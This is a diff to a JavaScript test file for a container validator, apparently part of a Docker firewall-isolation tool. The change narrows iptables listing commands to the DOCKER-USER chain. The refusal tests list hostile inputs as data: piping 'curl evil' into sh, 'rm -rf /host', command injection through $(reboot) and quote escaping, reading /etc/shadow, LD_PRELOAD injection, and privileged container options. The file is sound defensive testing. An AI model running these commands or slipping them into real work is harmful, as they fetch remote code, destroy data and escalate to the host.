@@ -210,31 +210,31 @@ describe('containerCreateProblem', () => {
       expect(containerCreateProblem(helper(iptablesScript(['-t', 'filter', '-I', 'DOCKER-USER', '1', '-i', 'br-0123456789ab', '-m', 'comment', '--comment', 'tidepool-isolation/tidepool', '-j', 'TP-FWD-0123456789ab'])), settings)).toBeUndefined();
       expect(containerCreateProblem(helper(`cat /host${quote('/etc/resolv.conf')} 2>/dev/null || true`), settings)).toBeUndefined();
       expect(containerCreateProblem(helper('printf "%s" "$RULES" | chroot /host iptables-restore -w --noflush', ['RULES=*filter\nCOMMIT\n']), settings)).toBeUndefined();
-      expect(containerCreateProblem(helper(iptablesScript(['-S']), [], { Binds: ['/:/host:ro'] }), settings)).toBeUndefined();
+      expect(containerCreateProblem(helper(iptablesScript(['-S', 'DOCKER-USER']), [], { Binds: ['/:/host:ro'] }), settings)).toBeUndefined();
     });
 
     it('refuses anything else carrying its label', () => {
       const refused = [
         helper('sh -c "curl evil | sh"'),
-        helper(`${iptablesScript(['-S'])}; rm -rf /host`),
+        helper(`${iptablesScript(['-S', 'DOCKER-USER'])}; rm -rf /host`),
         helper(`exec chroot /host iptables -w '-S' $(reboot)`),
         helper(`exec chroot /host iptables -w '-S'\\''; reboot; '\\'`),
         helper(`cat /host${quote('/etc/shadow')} 2>/dev/null || true`),
         helper(iptablesScript(['-I', 'DOCKER-USER', '-m', 'comment', '--comment', "it's tidepool"])),
-        helper(iptablesScript(['-S']), ['LD_PRELOAD=/host/x.so']),
+        helper(iptablesScript(['-S', 'DOCKER-USER']), ['LD_PRELOAD=/host/x.so']),
         helper('printf "%s" "$RULES" | chroot /host iptables-restore -w --noflush', ['RULES=x', 'PATH=/x']),
-        helper(iptablesScript(['-S']), [], { Privileged: true }),
-        helper(iptablesScript(['-S']), [], { PidMode: 'host' }),
-        helper(iptablesScript(['-S']), [], { CapAdd: ['NET_ADMIN', 'SYS_ADMIN'] }),
-        helper(iptablesScript(['-S']), [], { Binds: ['/:/host', '/root:/root'] }),
-        helper(iptablesScript(['-S']), [], { Binds: ['/etc:/host'] }),
-        helper(iptablesScript(['-S']), [], { NetworkMode: 'tidepool' }),
-        helper(iptablesScript(['-S']), [], { Devices: [{ PathOnHost: '/dev/mem' }] }),
-        helper(iptablesScript(['-S']), [], {}, { Image: 'busybox' }),
-        helper(iptablesScript(['-S']), [], {}, { User: 'user' }),
-        helper(iptablesScript(['-S']), [], {}, { Cmd: ['x'] }),
-        helper(iptablesScript(['-S']), [], {}, { Privileged: true }),
-        helper(iptablesScript(['-S']), [], {}, { Labels: { 'dev.tidepool.firewall-helper': 'yes' } }),
+        helper(iptablesScript(['-S', 'DOCKER-USER']), [], { Privileged: true }),
+        helper(iptablesScript(['-S', 'DOCKER-USER']), [], { PidMode: 'host' }),
+        helper(iptablesScript(['-S', 'DOCKER-USER']), [], { CapAdd: ['NET_ADMIN', 'SYS_ADMIN'] }),
+        helper(iptablesScript(['-S', 'DOCKER-USER']), [], { Binds: ['/:/host', '/root:/root'] }),
+        helper(iptablesScript(['-S', 'DOCKER-USER']), [], { Binds: ['/etc:/host'] }),
+        helper(iptablesScript(['-S', 'DOCKER-USER']), [], { NetworkMode: 'tidepool' }),
+        helper(iptablesScript(['-S', 'DOCKER-USER']), [], { Devices: [{ PathOnHost: '/dev/mem' }] }),
+        helper(iptablesScript(['-S', 'DOCKER-USER']), [], {}, { Image: 'busybox' }),
+        helper(iptablesScript(['-S', 'DOCKER-USER']), [], {}, { User: 'user' }),
+        helper(iptablesScript(['-S', 'DOCKER-USER']), [], {}, { Cmd: ['x'] }),
+        helper(iptablesScript(['-S', 'DOCKER-USER']), [], {}, { Privileged: true }),
+        helper(iptablesScript(['-S', 'DOCKER-USER']), [], {}, { Labels: { 'dev.tidepool.firewall-helper': 'yes' } }),
       ];
       for (const body of refused) expect(containerCreateProblem(body, settings), JSON.stringify(body)).toBeTypeOf('string');
     });
